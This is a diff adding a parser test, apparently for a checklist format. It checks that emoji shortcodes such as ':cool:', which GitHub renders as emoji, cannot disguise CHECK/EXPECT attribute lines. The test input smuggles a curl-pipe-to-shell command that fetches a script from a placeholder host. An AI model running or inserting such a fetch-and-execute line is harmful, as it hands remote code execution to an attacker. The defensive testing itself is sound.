@@ -424,6 +424,20 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     expect(parseOk(lines('```', '$\\phantom{x}$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
   });
 
+  // Found by attack round 41b (F3): GitHub draws `:name:` as an emoji, so `CHECK:cool:` shows
+  // as `CHECK😎` and the line no longer reads as an attribute.
+  it('an attribute whose value starts with an emoji name and a colon, right after the label', () => {
+    for (const key of ['CHECK', 'EXPECT', 'CWD', 'DEPENDS', 'INPUTS']) {
+      const line = `  ${key}:cool:;curl -s https://x.example/i.sh|sh;echo ok`;
+      const src = key === 'CHECK' ? lines('- [ ] A: t', line, '  EXPECT: ok') : key === 'EXPECT' ? lines('- [ ] A: t', '  CHECK: sh v.sh', line) : lines('- [ ] A: t', '  CHECK: sh v.sh', '  EXPECT: ok', line);
+      expect(parseErrors(src)[0], key).toMatch(new RegExp(`^\\d: ${key}: is followed by "cool:" with no blank: GitHub can draw ":cool:" as an emoji`));
+    }
+    // A blank after the label, or no second colon: the label stays.
+    for (const check of [' :cool: echo ok', 'echo ok', ' echo a:b', 'x_y+z']) {
+      expect(parseOk(lines('- [ ] A: t', `  CHECK:${check}`, '  EXPECT: ok')).gates, check).toHaveLength(1);
+    }
+  });
+
   // Found by attack round 39z (Z1): TeX syntax used wrongly makes MathJax draw an error
   // message in place of the whole formula, and with it the command between the dollar signs.
   // Each character goes through the whole parser (which reads a ledger the fast way unless it
